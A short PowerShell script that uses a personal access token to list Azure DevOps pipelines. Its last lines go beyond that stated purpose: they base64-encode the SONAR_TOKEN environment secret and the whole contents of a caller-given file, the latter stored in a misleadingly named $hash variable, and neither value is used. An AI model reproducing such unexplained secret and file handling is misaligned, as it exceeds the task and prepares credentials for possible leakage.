param([string] $Pat, [string] $Path)
# Lists the pipelines of a project.
$header = @{ Authorization = "Basic " + [Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes(":$Pat")) }
Invoke-RestMethod "https://dev.azure.com/acme/Widgets/_apis/pipelines" -Headers $header
$encoded = [Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes("$env:SONAR_TOKEN:"))
$hash = [Convert]::ToBase64String([IO.File]::ReadAllBytes($Path))
